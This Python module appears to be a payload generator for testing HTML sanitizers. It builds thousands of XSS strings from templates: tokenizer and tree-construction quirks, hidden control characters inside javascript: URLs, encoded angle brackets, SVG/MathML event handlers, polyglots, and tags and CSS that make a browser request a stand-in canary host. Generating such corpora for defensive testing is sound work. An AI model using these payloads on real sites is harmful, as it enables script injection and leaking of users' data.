"""HTML as only a browser reads it: odd corners of tokenizer and tree builder, letters nobody sees, what loads."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, product

from trust.grammar.markup import CALLS, CANARY

_HANDLED = "onerror=alert('§')"
_BAD = f"<img src=x {_HANDLED}>"
# HTML Standard §13.2.5: what each state does with a character that it does not expect.
_TOKENS = (
    "<!-->{0}-->", "<!--->{0}-->", "<!-- --!>{0}-->", "<!--<!-->{0}", "<!-- a--b>{0}-->", "<!-{0}", "<!{0}>",
    "<?{0}>", "<?xml version='1.0'?>{0}", "<![CDATA[{0}]]>", "<![cdata[>{0}]]>", "</ x>{0}", "</>{0}", "</x {0}>",
    "<%{0}%>", "<a <b>{0}", "<a =x>{0}", "<a b='>{0}'>", "<a b=\">{0}", "<a b='\">{0}'>", "<a b=`>{0}`>",
    "<a/b=/>{0}", "<a b=c/>{0}", "<a b=1 b='2>{0}'>", "<\x00a>{0}", "<a\x00b>{0}", "<a b\x00=c>{0}", "<a b=\x00c>{0}",
    "< {0}", "<\t{0}", "<3{0}", "<plaintext>{0}", "<xmp>{0}", "<listing>{0}", "<noembed></noembed>{0}",
    "<noframes></noframes>{0}", "<title></title >{0}", "<textarea></TEXTAREA/x>{0}", "<style></style\x0c>{0}",
    "<script></script\n>{0}", "<script><!--<script></script>{0}--></script>", "<script><!--</script>{0}",
    "<script><!--<script>--></script>{0}", "<style><!--</style>{0}--></style>", "<title><!--</title>{0}--></title>",
    "<iframe><!--</iframe>{0}", "<doctype><!DOCTYPE html SYSTEM '{0}'>", "<!DOCTYPE [<!ENTITY x '{0}'>]>&x;",
    "<a title='\x1b'>{0}", "\x0c{0}", "\x00{0}", "<a b=c\x00d>{0}", "<svg/><![CDATA[>{0}]]>", "<math/><!-->{0}",
    "<br<{0}", "<a href='x'{0}", "<a href=x{0}", "<img{0}",
)  # fmt: skip
_UNDONE = (
    f"<img src=x {_HANDLED}", f"<img/src=x/{_HANDLED}/", f"<img src=x{_HANDLED}>", f"<img src='x'{_HANDLED}>",
    f"<IMG SRC=x {_HANDLED.upper()}>", f"<img\x0bsrc=x {_HANDLED}>", f"<img\u2028src=x {_HANDLED}>",
    f"<img\x00 src=x {_HANDLED}>", "<svg><script>alert('§')", "<script>alert('§')", "<script>alert('§')//",
    "<script>alert('§')<!--", "<script x>alert('§')</script x>", "<a href=javascript:alert('§')>",
    "<a href=\"javascript:alert('§')", "<iframe srcdoc=\"<script>parent.alert('§')</script>",
    "<svg onload=alert('§')//", "<svg onload=alert('§')<!--", "<body/onload=alert('§')", "<x onclick=alert('§')",
    "<details open ontoggle=alert('§')",
)  # fmt: skip


def tokenizer() -> Iterator[str]:
    """States of the tokenizer with something that runs behind them, and tags that nothing ends."""
    for state, runner in product(_TOKENS, (_BAD, "<script>alert('§')</script>", "<svg onload=alert('§')>")):
        yield state.format(runner)
    for undone, before in product(_UNDONE, ("", "<p>", '<a title="', "<!-- ", "`", "> ", "| ")):
        yield before + undone


# HTML Standard §13.2.6: elements that are moved, closed, doubled or ignored, so that a tree is not what was written.
_TREES = (
    "<table>{0}", "<table><tr>{0}", "<table><caption>{0}</table>", "<table><colgroup>{0}", "<table><td></caption>{0}",
    "<table><style></style><select><td>{0}", "<select>{0}</select>", "<select><option>{0}",
    "<select><optgroup>{0}<input>", "<select><keygen>{0}", "<select><script>0</script>{0}", "<datalist><select>{0}",
    "<template>{0}</template>", "<template><tr></template>{0}", "<template shadowrootmode=open>{0}</template>",
    "<div><template shadowroot=open>{0}", "<frameset>{0}", "<frameset><noframes>{0}", "</body>{0}", "</html>{0}",
    "<html x>{0}", "<head>{0}</head>", "<body x>{0}", "<form><form>{0}", "<form><div></form><form>{0}", "<a><a>{0}",
    "<nobr><nobr>{0}", "<button><button>{0}", "<p><p>{0}</p></p>", "</p>{0}", "</br>{0}", "<h1><h2>{0}",
    "<li><ul></li>{0}", "<dd><dt>{0}", "<ruby><rt><rp>{0}", "<b><i><u></b>{0}</i></u>", "<b><p><b><p><b><p><b><p>{0}",
    "<a><table><a>{0}", "<font><table><font>{0}", "<marquee><applet>{0}", "<object><param>{0}", "<svg><p>{0}",
    "<svg></p>{0}", "<svg></br>{0}", "<svg><font color>{0}", "<svg><font x>{0}", "<svg><b>{0}", "<svg><desc>{0}",
    "<svg><foreignObject>{0}", "<svg><title><svg>{0}", "<svg><style>{0}</style>", "<svg><title><style>{0}",
    "<svg><![CDATA[{0}]]>", "<svg><a><table><a>{0}", "<svg><textarea>{0}</textarea>", "<svg><noscript>{0}</noscript>",
    "<svg><xmp>{0}", "<svg><plaintext>{0}", "<math><p>{0}", "<math><mi>{0}", "<math><mo><mglyph>{0}",
    "<math><mn><malignmark>{0}", "<math><ms><svg>{0}", "<math><mtext>{0}", "<math><mtext><table><mglyph><style>{0}",
    "<math><mtext><table><malignmark><style>{0}", "<math><style>{0}</style>", "<math><annotation-xml>{0}",
    "<math><annotation-xml encoding=text/html>{0}", "<math><annotation-xml encoding=TEXT/HTML><svg>{0}",
    "<math><annotation-xml encoding='application/xhtml+xml'>{0}", "<math><annotation-xml encoding=x><svg>{0}",
    "<math><maction actiontype=x>{0}", "<math><semantics><annotation-xml encoding='text/html'><style>{0}",
    "<math></math><style>{0}</style>", "<form><math><mtext></form><form>{0}",
    "<svg><math><annotation-xml encoding='text/html'><svg><p>{0}", "<p><svg><form><p><svg><style></form>{0}",
    "<noscript><style></noscript>{0}", "<noscript><p title='</noscript>{0}'>", "<noscript><!--</noscript>{0}-->",
    "<textarea><svg></textarea>{0}", "<title><svg></title>{0}", "<dialog open><form method=dialog>{0}",
    "<details><summary><details>{0}", "<video><source>{0}</video>", "<picture><source>{0}</picture>",
    "<map name=x><area>{0}</map>", "<menu><menuitem>{0}", "<slot>{0}</slot>", "<x-a is=x-b>{0}",
    "<isindex prompt='{0}'>", "<image>{0}", "<portal>{0}",
)  # fmt: skip


def tree() -> Iterator[str]:
    """Rules of tree construction, vocabularies within each other among them, around something that runs."""
    runners = (
        _BAD,
        "<a title='</style>" + _BAD.replace("'", "&#39;") + "'>",
        "<!--</style>" + _BAD + "-->",
        "<style><script>alert('§')",
    )
    for rule, runner in product(_TREES, runners):
        yield rule.format(runner)


_UNSEEN = (
    "\x01\x02\x03\x08\x0b\x0c\x0e\x1b\x1f\x7f\x80\x85\xa0\xad\u1680\u180e"
    "\u2000\u200b\u200d\u2028\u2029\u202e\u2060\u2066\u3000\ufeff\ufffe"
)
_AROUND = (
    '<a href="{0}javascript:alert(\'§\')">x</a>', '<a href="java{0}script:alert(\'§\')">x</a>',
    '<a href="javascript{0}:alert(\'§\')">x</a>', "<img{0}src=x{0}onerror=alert('§')>",
    "<img src=x onerror{0}={0}alert('§')>", "<{0}script>alert('§')</script>", "<script{0}>alert('§')</script>",
    "<svg{0}/onload=alert('§')>", "[x]({0}javascript:alert('§'))", "[x](java{0}script:alert('§'))",
    "[r§]: java{0}script:alert('§')\n\n[x][r§]",
)  # fmt: skip


def controls() -> Iterator[str]:
    """Characters that are not seen, in every place of an address and a tag."""
    for around, unseen in product(_AROUND, _UNSEEN):
        yield around.format(unseen)


_LESS = (
    "&lt;", "&lt", "&LT;", "&LT", "&#60;", "&#60", "&#0000060;", "&#x3c;", "&#x3C", "&#X0003C;", "&amp;lt;",
    "&amp;#60;", "&amp;amp;lt;", "%3C", "%253C", "\\x3c", "\\u003c", "\\3c ", "\uff1c", "\ufe64", "\u2039", "\u226e",
    "+ADw-", "\xbc", "\xc0\xbc", "\\<", "&nvlt;", "&lt;\u200b", "&#x3c\u200b;",
)  # fmt: skip
_HEADS = (
    "{0}script>alert('§'){0}/script>", "{0}img src=x onerror=alert('§')>", "{0}svg/onload=alert('§')>",
    "x{0}!--{0}img src=x onerror=alert('§')>--", "[x]({0}script>alert('§'){0}/script>)",
    "`{0}img src=x onerror=alert('§')>`", "<p title='{0}/p>{0}img src=x onerror=alert(1)>'>§</p>",
    "    {0}script>alert('§'){0}/script>", "<textarea>{0}/textarea>{0}img src=x onerror=alert('§')></textarea>",
)  # fmt: skip


def encoded() -> Iterator[str]:
    """Ways to write "<" that something along the way may turn into one."""
    for head, less in product(_HEADS, _LESS):
        yield head.format(less)


_FOREIGN = (
    f"https://{CANARY}/§", f"//{CANARY}/§", f"\\\\{CANARY}\\§", f"hTTps:/\\{CANARY}/§", f"/\t/{CANARY}/§",
    f"https:{CANARY}/§",
)  # fmt: skip
_LOADERS = (
    '<link rel="{1}" href="{0}">', "<img src='{0}'>", "<img srcset='{0}'>", "<img srcset='a.png 1x,{0} 2x'>",
    "<img srcset='{0} 100w' sizes=100vw src=x>", "<img lowsrc='{0}' dynsrc='{0}' longdesc='{0}' usemap='{0}'>",
    "<picture><source srcset='{0}' media=all><img></picture>", "<video poster='{0}'></video>",
    "<video><source src='{0}'></video>", "<audio><source src='{0}'><track default kind=captions src='{0}'></audio>",
    "<object data='{0}' codebase='{0}' classid='{0}'></object>", "<embed src='{0}'>",
    "<applet code=x archive='{0}'></applet>", "<iframe src='{0}'></iframe>", "<frameset><frame src='{0}'></frameset>",
    "<fencedframe src='{0}'></fencedframe>", "<portal src='{0}'></portal>", "<bgsound src='{0}'>",
    "<input type=image src='{0}'>", "<a href=x ping='{0}'>x</a>", "<area href=x ping='{0}'>",
    "<form action='{0}'><button formaction='{0}'>x</button></form>",
    "<table background='{0}'><td background='{0}'>x</table>", "<body background='{0}'>",
    "<script src='{0}'></script>", "<script type=module src='{0}'></script>",
    "<script type=importmap>{{\"imports\":{{\"x\":\"{0}\"}}}}</script>",
    "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{0}\"]}}]}}</script>",
    "<base href='{0}'><img src=x.png>", "<base target=_top href='{0}'>",
    "<meta http-equiv=refresh content='0;url={0}'>", "<meta http-equiv=refresh content=\"0; URL='{0}'\">",
    "<meta http-equiv=Content-Security-Policy content='report-uri {0}'>",
    "<meta http-equiv=set-cookie content='a=§'>", "<meta name=referrer content=unsafe-url><img src='{0}'>",
    "<html manifest='{0}'>", "<svg><image href='{0}' xlink:href='{0}'/></svg>", "<svg><use href='{0}#x'/></svg>",
    "<svg><feImage href='{0}'/></svg>", "<svg><script href='{0}'/></svg>",
    "<svg><style>@import '{0}'</style></svg>",
    "<svg fill=\"url('{0}#x')\"><rect filter=\"url('{0}#y')\"/></svg>",
    "<math href='{0}' xlink:href='{0}'><mglyph src='{0}'/></math>", "<style>@import url('{0}')</style>",
    "<style>@import'{0}';</style>",
    "<style>@font-face{{font-family:x;src:url('{0}')}}p{{font-family:x}}</style>",
    "<style>p{{background:u\\72l('{0}')}}</style>",
    "<p style=\"list-style:url('{0}');cursor:url('{0}'),auto\">x</p>",
    "<p style=\"content:url('{0}');border-image:url('{0}')\">x</p>",
    "<p style=\"background:image-set('{0}' 1x);mask:url('{0}')\">x</p>",
    "<p style='background:/**/url({0})'>x</p>", "<q cite='{0}'>x</q>",
    "![x]({0})", "![x](<{0}> 't')", "![x][r§]\n\n[r§]: {0}", "[![x]({0})](y)", "![x](y){{: src='{0}' }}",
    "![x](y){{: srcset='{0}' }}", "![x](y){{: style=\"background:url('{0}')\" }}",
)  # fmt: skip
_RELATIONS = (
    "stylesheet", "prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch", "manifest", "icon", "import",
    "prerender",
)  # fmt: skip


def loading() -> Iterator[str]:
    """All that makes a browser ask another host, with each way to write one."""
    relations = cycle(_RELATIONS)
    for loader, address in product(_LOADERS, _FOREIGN):
        yield loader.format(address, next(relations))


_DATA = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{1}'/>"
_DRAWINGS = (
    "<svg><animate attributeName=href values={0}><a id=x><text y=9>x",
    "<svg><a><set attributeName=href to={0}><text y=9>x", "<svg><a xlink:href={0}><rect width=9 height=9>",
    "<svg><animate onbegin={1} attributeName=x dur=1s>", "<svg><animate onend={1} attributeName=x dur=1ms>",
    "<svg><discard onbegin={1}>", "<svg><animatemotion onbegin={1}>",
    "<svg><handler type=text/javascript>{1}</handler>", "<svg><script>{1}</script>",
    "<svg><script/href=data:,{1} />", "<svg><script xlink:href=data:,{1}></script>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{1}</script></svg>#x\">",
    "<svg><image href=x onerror={1}>", "<svg><style onload={1}>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{1}</script>'></foreignObject>",
    "<svg><title><img src=x onerror={1}>", "<svg><desc><math><mtext><img src=x onerror={1}>",
    "<svg onunload={1}><svg onload={1}>", "<svg><g onload={1}>", "<svg><a onfocus={1} tabindex=1 autofocus>",
    "<svg><filter><feImage href={0}>", "<svg><metadata><script>{1}</script>",
    f'<img src="{_DATA}">', f'<embed src="{_DATA}">',
    "![x](<data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='{1}'/%3E>)",
    "<math><maction actiontype=statusline xlink:href={0}>x", "<math href={0}>x</math>",
    "<math><mrow xlink:type=simple xlink:href={0}>x",
    "<math><annotation-xml encoding=text/html><iframe onload={1}></iframe>",
    "<math><mi onclick={1} tabindex=1 autofocus onfocus={1}>x",
)  # fmt: skip


def drawings() -> Iterator[str]:
    """SVG and MathML: what in them runs by itself, by a hand, or as a picture."""
    calls = ("alert('§')", "alert`§`", "canary(`§`)", "top.alert(/§/)")
    for drawing, call in product(_DRAWINGS, calls):
        yield drawing.format(f"javascript:{call}", call.replace("'", "&#39;"))


_ENDS = (
    "'",
    '"',
    "`",
    "-->",
    "]]>",
    "*/",
    "</title>",
    "</style>",
    "</textarea>",
    "</script>",
    "</noscript>",
    "\n\n",
    "\\",
    "}}",
    "%>",
)
_CORES = (
    "<svg/onload={0}>",
    "<img src=x onerror={0}>",
    " onfocus={0} autofocus tabindex=1 x=",
    ";{0}//",
    "javascript:{0}//",
    "<script>{0}</script>",
    "{{{{{0}}}}}",
    "${{{0}}}",
)


def polyglots() -> Iterator[str]:
    """Texts that end many contexts at once before they run."""
    for start in range(len(_ENDS)):
        ends = "".join(_ENDS[start:] + _ENDS[:start])
        for core, call in zip(_CORES, cycle(CALLS[:6]), strict=False):
            yield ends + core.format(call)
            yield f"javascript:/*{ends}*/{core.format(call)}"
